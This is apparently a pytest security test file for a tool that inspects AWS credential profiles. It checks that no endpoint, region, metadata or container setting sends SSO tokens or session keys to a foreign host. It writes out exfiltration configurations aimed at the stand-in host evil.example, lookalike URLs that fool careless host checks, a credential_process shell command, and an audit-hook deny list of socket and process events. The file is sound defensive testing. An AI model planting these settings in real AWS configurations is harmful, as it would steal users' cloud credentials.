"""No setting leads the secrets of an AWS profile to a host that is not AWS's, runs a program or asks for a code."""

from __future__ import annotations

import hashlib
import json
import secrets
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import NamedTuple

import pytest

from tests.attacks.interception import World, pieces_in, response, world
from tests.canaries import parts_in

pytestmark = [pytest.mark.attack, pytest.mark.slow]

EVIL = "evil.example"
# Written out once more, so that the rule of meshtui does not judge itself.
AWS_HOSTS = {
    "portal.sso.eu-central-1.amazonaws.com",
    "sts.eu-central-1.amazonaws.com",
    "sts.us-east-1.amazonaws.com",
    "bedrock.eu-central-1.amazonaws.com",
    "bedrock-runtime.eu-central-1.amazonaws.com",
    "iam.amazonaws.com",
}


def made(prefix: str, length: int) -> str:
    return prefix + secrets.token_hex(length)[: length - len(prefix)]


SSO_TOKEN, REFRESH_TOKEN, CLIENT_SECRET = (made(prefix, 90) for prefix in ("aoa", "aor", "eyc"))
WEB_TOKEN = made("eyJh", 200)
KEY_ID, SECRET, SESSION_TOKEN = made("ASIA", 20).upper(), made("", 40), made("IQoJb3JpZ2lu", 300)
CONTAINER_TOKEN = made("pod", 60)
EVERY = (SSO_TOKEN, REFRESH_TOKEN, CLIENT_SECRET, WEB_TOKEN, KEY_ID, SECRET, SESSION_TOKEN, CONTAINER_TOKEN)
GIVEN_ID, GIVEN_SECRET, GIVEN_TOKEN = made("ASIA", 20).upper(), made("", 40), made("IQoJb3JpZ2lu", 300)

ROLE = "role_arn = arn:aws:iam::123456789012:role/test\n"
SSO = (
    "[profile p]\nsso_session = corp\nsso_account_id = 123456789012\nsso_role_name = test\nregion = eu-central-1\n{0}\n"
    "[sso-session corp]\nsso_start_url = https://corp.example/start\nsso_region = eu-central-1\n{1}\n"
)
ASSUMED = f"[profile p]\n{ROLE}source_profile = base\nregion = eu-central-1\n{{0}}\n[profile base]\n{{1}}\n"
WEB = f"[profile p]\n{ROLE}web_identity_token_file = {{home}}/web-token\nregion = eu-central-1\n{{0}}\n{{1}}\n"
SOURCE = f"[profile p]\n{ROLE}credential_source = {{0}}\nregion = eu-central-1\n{{1}}\n"
SERVICES = "\n[services s]\n{0} =\n  endpoint_url = https://" + EVIL


class Attack(NamedTuple):
    config: str
    named: str
    """What the finding names."""
    environment: Mapping[str, str] = MappingProxyType({})
    row: str = "aws.profile-foreign-address"


def filled(config: str, first: str = "", second: str = "") -> str:
    return config.replace("{0}", first).replace("{1}", second)


def _addresses() -> Iterator[tuple[str, Attack]]:
    """Every setting that names an address, on every kind of profile."""
    foreign = f"https://{EVIL}"
    for kind, config in {"sso": SSO, "role": ASSUMED, "web": WEB}.items():
        for suffix in ("", "_STS", "_SSO", "_SSO_OIDC", "_BEDROCK_RUNTIME"):
            name = f"AWS_ENDPOINT_URL{suffix}"
            yield f"{kind} {name}", Attack(filled(config), name, {name: foreign})
        yield f"{kind} endpoint_url", Attack(filled(config, f"endpoint_url = {foreign}"), "endpoint_url")
        for service in ("sts", "sso", "sso_oidc"):
            section = filled(config, "services = s", SERVICES.replace("{0}", service))
            yield f"{kind} services {service}", Attack(section, f"endpoint_url of {service}")


def _lookalikes() -> Iterator[tuple[str, Attack]]:
    """Addresses that a careless comparison takes for AWS's or this machine's, and one without encryption."""
    for url in (
        "http://sts.eu-central-1.amazonaws.com",
        f"https://sts.eu-central-1.amazonaws.com.{EVIL}",
        f"https://sts.eu-central-1.amazonaws.com@{EVIL}",
        f"https://{EVIL}/sts.eu-central-1.amazonaws.com",
        f"https://{EVIL}#.amazonaws.com",
        "https://sts.s3.amazonaws.com",
        f"https://sts.eu-central-1.amazonaws.com:8443@127.0.0.1.{EVIL}",
        f"HTTPS://{EVIL.upper()}",
        f"//{EVIL}",
        f"http://127.0.0.1.{EVIL}",
        f"http://localhost.{EVIL}",
    ):
        yield f"like {url}", Attack(filled(ASSUMED), "AWS_ENDPOINT_URL_STS", {"AWS_ENDPOINT_URL_STS": url})


def _regions() -> Iterator[tuple[str, Attack]]:
    """Regions that would end the host's name early, or make it that of somebody's bucket."""
    row, right = "aws.profile-region", "region = eu-central-1"
    for region in (f"{EVIL}/", f"{EVIL}#", f"x@{EVIL}/", f"{EVIL}:443/", "s3", "a.b", "../x"):
        sso = filled(SSO).replace(f"sso_{right}", f"sso_region = {region}")
        yield f"sso_region {region}", Attack(sso, "sso_region", {}, row)
        for kind, config in (("role", filled(ASSUMED)), ("web", filled(WEB))):
            changed = config.replace(right, f"region = {region}")
            yield f"{kind} region {region}", Attack(changed, "region of profile p", {}, row)
            bare = config.replace(right, "")
            yield f"{kind} AWS_REGION {region}", Attack(bare, "AWS_REGION", {"AWS_REGION": region}, row)


def _chains() -> Iterator[tuple[str, Attack]]:
    """The same, behind another profile."""
    foreign = f"endpoint_url = https://{EVIL}"
    chain = f"[profile p]\n{ROLE}source_profile = mid\n[profile mid]\n{ROLE}source_profile = base\n{{0}}\n"
    chain += "[profile base]\n{1}"
    yield "chain", Attack(filled(chain, foreign), "endpoint_url")
    yield "source", Attack(filled(chain, "", foreign), "endpoint_url")


def _metadata() -> Iterator[tuple[str, Attack]]:
    name = "AWS_EC2_METADATA_SERVICE_ENDPOINT"
    for address in (f"http://{EVIL}", f"https://{EVIL}", f"http://169.254.169.254@{EVIL}", "http://169.254.169.254:81"):
        yield f"metadata {address}", Attack(filled(SOURCE, "Ec2InstanceMetadata"), name, {name: address})
    token = {"AWS_CONTAINER_AUTHORIZATION_TOKEN": CONTAINER_TOKEN}
    for kind, address in (("FULL", f"https://{EVIL}/x"), ("FULL", f"http://{EVIL}/x"), ("RELATIVE", f"@{EVIL}/x")):
        name = f"AWS_CONTAINER_CREDENTIALS_{kind}_URI"
        yield f"container {address}", Attack(filled(SOURCE, "EcsContainer"), name, {name: address, **token})


def _programs_and_codes() -> Iterator[tuple[str, Attack]]:
    row, program = "aws.profile-program", "credential_process = /bin/sh -c 'echo ran > {home}/ran'\n"
    yield "program", Attack(f"[profile p]\n{program}", "credential_process", {}, row)
    behind = f"[profile p]\n{ROLE}source_profile = other\nregion = eu-central-1\n[profile other]\n{program}"
    yield "program of the source", Attack(behind, "credential_process", {}, row)
    code = filled(ASSUMED, "mfa_serial = arn:aws:iam::123456789012:mfa/me")
    yield "code", Attack(code, "mfa_serial", {}, "aws.profile-mfa")


ATTACKS = dict((*_addresses(), *_lookalikes(), *_regions(), *_chains(), *_metadata(), *_programs_and_codes()))


def answer(host: str, request: bytes) -> bytes:
    """Everybody gives keys to whoever asks, and refuses all else: AWS's hosts and the foreign ones alike."""
    keys = {"accessKeyId": GIVEN_ID, "secretAccessKey": GIVEN_SECRET, "sessionToken": GIVEN_TOKEN}
    if b"/federation/credentials" in request:
        return response(json.dumps({"roleCredentials": {**keys, "expiration": 4102444800000}}).encode())
    if b"Action=AssumeRole" in request:
        inner = "".join(f"<{name[0].upper()}{name[1:]}>{value}</{name[0].upper()}{name[1:]}>"
                        for name, value in keys.items())  # fmt: skip
        action = "AssumeRoleWithWebIdentity" if b"WebIdentity" in request else "AssumeRole"
        text = (f"<{action}Response><{action}Result><Credentials>{inner}<Expiration>2099-01-01T00:00:00Z</Expiration>"
                f"</Credentials></{action}Result></{action}Response>")  # fmt: skip
        return response(text.encode())
    return response(b'{"message": "no"}', "403 Forbidden")


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path, answer) as made:
        yield made


def home_with(folder: Path, config: str) -> Path:
    """A home with that configuration, keys for `base`, a web identity token and a single sign-on token."""
    home = folder / "home"
    cache = home / ".aws/sso/cache"
    cache.mkdir(parents=True)
    (home / ".aws/config").write_text(config.replace("{home}", str(home)))
    (home / ".aws/credentials").write_text(
        f"[base]\naws_access_key_id = {KEY_ID}\naws_secret_access_key = {SECRET}\naws_session_token = {SESSION_TOKEN}\n"
    )
    (home / "web-token").write_text(WEB_TOKEN)
    name = hashlib.sha1(b"corp", usedforsecurity=False).hexdigest()
    token = {"accessToken": SSO_TOKEN, "expiresAt": "2099-01-01T00:00:00Z", "region": "eu-central-1",
             "refreshToken": REFRESH_TOKEN, "clientId": "id", "clientSecret": CLIENT_SECRET, "startUrl": "https://corp.example/start",
             "registrationExpiresAt": "2098-01-01T00:00:00Z"}  # fmt: skip
    (cache / f"{name}.json").write_text(json.dumps(token))
    return home


STALE = {
    "ended": (lambda token: token.write_text(token.read_text().replace("2099-01-01T00", "2020-01-01T00")), "ended at"),
    "no date": (
        lambda token: token.write_text(token.read_text().replace("2099-01-01T00", "soon")),
        "no time at which it ends",
    ),
    "not JSON": (lambda token: token.write_text(token.read_text()[:-40]), "cannot be read"),
    "nested": (lambda token: token.write_text("[" * 100_000), "cannot be read"),
    "a folder": (lambda token: (token.unlink(), token.mkdir()), "a folder"),
    "gone": (lambda token: token.unlink(), "nobody has signed in"),
}


@pytest.mark.parametrize("offline", [(), ("--offline",)], ids=["online", "offline"])
@pytest.mark.parametrize("name", STALE)
def test_a_token_that_cannot_serve_is_a_finding_that_names_the_sign_in(
    tmp_path: Path, outside: World, name: str, offline: tuple[str, ...]
):
    spoil, says = STALE[name]
    home = home_with(tmp_path, filled(SSO))
    (token,) = (home / ".aws/sso/cache").iterdir()
    spoil(token)
    ended = outside.run(home, "check", "--profile", "p", "--format", "json", *offline)
    assert_nothing_leaked(outside, ended.stdout, ended.stderr)
    (credential,) = json.loads(ended.stdout)["credentials"]
    (finding,) = credential["findings"]
    assert finding["id"] == "aws.sso-token"
    assert says in finding["proof"]
    assert "aws sso login --profile p" in finding["fix"]
    assert outside.received == []


def assert_nothing_leaked(outside: World, *texts: str) -> None:
    for received in outside.received:
        foreign = received.host not in AWS_HOSTS or received.scheme != "https"
        assert not foreign, f"{received.scheme}://{received.host} was asked"
    for text in texts:
        for secret in EVERY:
            if secret is KEY_ID:  # its prefix and last four are what a person knows it by
                assert not parts_in(text, secret)
            else:
                assert not pieces_in(text.encode(), secret)


@pytest.mark.parametrize("name", ATTACKS)
def test_no_setting_leads_a_secret_elsewhere_and_the_finding_names_it(tmp_path: Path, outside: World, name: str):
    attack = ATTACKS[name]
    home = home_with(tmp_path, attack.config)
    ended = outside.run(home, "check", "--profile", "p", "--format", "json", **attack.environment)
    assert_nothing_leaked(outside, ended.stdout, ended.stderr)
    assert outside.received == [], "not even AWS is asked before the setting is corrected"
    (credential,) = json.loads(ended.stdout)["credentials"]
    found = [finding for finding in credential["findings"] if finding["id"] == attack.row]
    assert found, ended.stdout
    assert any(attack.named in finding["title"] + finding["proof"] for finding in found), found
    assert all(finding["fix"] for finding in found)
    if attack.row == "aws.profile-foreign-address" and EVIL in attack.config + str(attack.environment).lower():
        assert any(EVIL in finding["title"] for finding in found), "it says where the secret would have gone"
    assert not (home / "ran").exists()
    assert ended.returncode == 4


WAYS = {
    "sso": (filled(SSO), "portal.sso.eu-central-1.amazonaws.com", {SSO_TOKEN}),
    "role": (filled(ASSUMED), "sts.eu-central-1.amazonaws.com", {KEY_ID, SESSION_TOKEN}),
    "web": (filled(WEB), "sts.eu-central-1.amazonaws.com", {WEB_TOKEN}),
}


@pytest.mark.parametrize("way", WAYS)
def test_each_secret_goes_to_its_own_host_of_aws_and_to_no_other(tmp_path: Path, outside: World, way: str):
    config, host, secrets_of_it = WAYS[way]
    ended = outside.run(home_with(tmp_path, config), "check", "--profile", "p", "--format", "json")
    assert_nothing_leaked(outside, ended.stdout, ended.stderr)
    asked = [received for received in outside.received if any(s.encode() in received.data for s in EVERY)]
    assert {received.host for received in asked} == {host}
    for secret in EVERY:
        arrived = any(secret.encode() in received.data for received in asked)
        assert arrived == (secret in secrets_of_it), f"{secret[:4]}… arrived: {arrived}"
    (credential,) = json.loads(ended.stdout)["credentials"]
    assert credential["shown"] == f"ASIA…{GIVEN_ID[-4:]}"
    assert credential["facts"]["region"] == "eu-central-1"
    for given in (GIVEN_SECRET, GIVEN_TOKEN):
        assert not pieces_in((ended.stdout + ended.stderr).encode(), given)


@pytest.mark.parametrize("way", WAYS)
def test_a_redirect_of_awss_own_host_is_not_followed(tmp_path: Path, way: str):
    def redirecting(host: str, _: bytes) -> bytes:
        return response(b"", "307 Temporary Redirect", f"Location: https://{EVIL}/x")

    with world(tmp_path, redirecting) as outside:
        ended = outside.run(home_with(tmp_path, WAYS[way][0]), "check", "--profile", "p", "--format", "json")
    assert_nothing_leaked(outside, ended.stdout, ended.stderr)
    (credential,) = json.loads(ended.stdout)["credentials"]
    assert [finding["id"] for finding in credential["findings"]] == ["aws.profile-refused"]


@pytest.mark.parametrize("way", WAYS)
def test_an_answer_that_repeats_the_secret_does_not_show_it(tmp_path: Path, way: str):
    def repeating(host: str, request: bytes) -> bytes:
        return response(json.dumps({"message": request.decode("latin-1")}).encode(), "403 Forbidden")

    with world(tmp_path, repeating) as outside:
        ended = outside.run(home_with(tmp_path, WAYS[way][0]), "check", "--profile", "p", "-v")
    assert_nothing_leaked(outside, ended.stdout, ended.stderr)
    assert "HTTP 403" in ended.stdout


BOTO3 = "import boto3; boto3.Session(profile_name='p').get_credentials().get_frozen_credentials()"


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("sso AWS_ENDPOINT_URL", SSO_TOKEN),
        ("sso services sso", SSO_TOKEN),
        ("role AWS_ENDPOINT_URL_STS", SESSION_TOKEN),
        ("web endpoint_url", WEB_TOKEN),
        ("like http://sts.eu-central-1.amazonaws.com", SESSION_TOKEN),
    ],
)
def test_the_attacks_work_on_a_program_that_obeys_these_settings(
    tmp_path: Path, outside: World, name: str, secret: str
):
    """The same search finds the secret where boto3 alone reads the profile."""
    attack = ATTACKS[name]
    outside.python(home_with(tmp_path, attack.config), "-c", BOTO3, AWS_DEFAULT_REGION="eu-central-1",
                   **attack.environment)  # fmt: skip
    arrived = b"".join(r.data for r in outside.received if r.scheme == "http" or r.host not in AWS_HOSTS)
    assert pieces_in(arrived, secret), outside.received


# Ends the process at what opens a connection or starts a process, and says what it was. A socket pair of the system's
# own, by which asyncio wakes itself, is no connection.
AUDITED = """
import socket, sys
DENIED = ("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "socket.sendmsg", "socket.bind",
          "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "pty.spawn", "os.startfile")
def watch(event, values):
    opens = event == "socket.__new__" and values[1] != getattr(socket, "AF_UNIX", None)
    if opens or event.startswith(DENIED):
        sys.stderr.write(f"\\nAUDIT {event}\\n")
        sys.stderr.flush()
        import os
        os._exit(99)
sys.addaudithook(watch)
from meshtui.cli.main import run
from tests.canaries import parts_in
sys.exit(run(sys.argv[1:]))
"""
OFFLINE = {
    **{way: (config, "aws.profile-offline") for way, (config, _, _) in WAYS.items()},
    "metadata": (filled(SOURCE, "Ec2InstanceMetadata"), "aws.profile-offline"),
    "container": (filled(SOURCE, "EcsContainer"), "aws.profile-offline"),
    "program": ("[profile p]\ncredential_process = /bin/true\n", "aws.profile-offline"),
    "code": (filled(ASSUMED, "mfa_serial = x"), "aws.profile-offline"),
    "keys": (f"[profile p]\naws_access_key_id = {KEY_ID}\naws_secret_access_key = {SECRET}\n", "aws.temporary"),
    "nothing": ("[profile p]\nregion = eu-central-1\n", "aws.profile-failed"),
    "foreign": (filled(SSO, f"endpoint_url = https://{EVIL}"), "aws.profile-foreign-address"),
}


@pytest.mark.parametrize("name", OFFLINE)
def test_offline_opens_no_connection_and_starts_no_process(tmp_path: Path, outside: World, name: str):
    config, row = OFFLINE[name]
    words = ("check", "--profile", "p", "--offline", "--format", "json")
    container = {"AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://127.0.0.1:1/x"}
    ended = outside.python(home_with(tmp_path, config), "-c", AUDITED, *words, **container)
    assert "AUDIT" not in ended.stderr
    assert ended.returncode == (8 if row == "aws.profile-offline" else 4), "what was not asked cannot be told"
    assert outside.received == []
    (credential,) = json.loads(ended.stdout)["credentials"]
    assert any(finding["id"].startswith(row) for finding in credential["findings"]), credential["findings"]


@pytest.mark.parametrize(
    ("name", "more", "event"),
    [
        ("sso", (), "socket."),
        ("role", (), "socket."),
        ("program", ("--run-credential-process",), "subprocess."),
    ],
)
def test_the_audit_sees_what_a_check_that_is_not_offline_does(
    tmp_path: Path, outside: World, name: str, more: tuple[str, ...], event: str
):
    home = home_with(tmp_path, OFFLINE[name][0])
    ended = outside.python(home, "-c", AUDITED, "check", "--profile", "p", *more)
    assert (ended.returncode, f"AUDIT {event}" in ended.stderr) == (99, True), ended.stderr


SHOW_ALL = """#!/bin/sh
env > "$HOME/environment"; pwd > "$HOME/folder"; cat > "$HOME/input"
echo '{"Version": 1, "AccessKeyId": "GIVEN_ID", "SecretAccessKey": "GIVEN_SECRET", "SessionToken": "GIVEN_TOKEN"}'
"""


def test_a_program_that_was_asked_for_gets_no_key_and_nothing_of_the_present_folder(tmp_path: Path, outside: World):
    home = home_with(tmp_path, "[profile p]\ncredential_process = give-keys --now\nregion = eu-central-1\n")
    text = SHOW_ALL
    for name, value in (("GIVEN_ID", GIVEN_ID), ("GIVEN_SECRET", GIVEN_SECRET), ("GIVEN_TOKEN", GIVEN_TOKEN)):
        text = text.replace(f'"{name}"', f'"{value}"')
    programs, here = home / "bin", home / "work"
    for folder, body in ((programs, text), (here, "#!/bin/sh\necho ran > $HOME/ran\n")):
        folder.mkdir()
        (folder / "give-keys").write_text(body)
        (folder / "give-keys").chmod(0o700)
    held = {"OPENAI_API_KEY": made("sk-proj-", 60), "AWS_SECRET_ACCESS_KEY": made("", 40),
            "AWS_ACCESS_KEY_ID": made("AKIA", 20).upper(), "MESH_API_KEY": made("rsk_", 40),
            "MY_OWN_PASSWORD": made("", 30)}  # fmt: skip
    words = ("check", "--profile", "p", "--run-credential-process", "--format", "json")
    ended = outside.run(home, *words, PATH=f".::{programs}:/usr/bin:/bin", **held)
    (credential,) = json.loads(ended.stdout)["credentials"]
    assert credential["shown"] == f"ASIA…{GIVEN_ID[-4:]}"
    environment = (home / "environment").read_bytes()
    assert b"HOME=" in environment
    for secret in held.values():
        assert not pieces_in(environment, secret)
    assert (home / "folder").read_text() == "/\n"
    assert (home / "input").read_text() == ""
    assert not (home / "ran").exists()
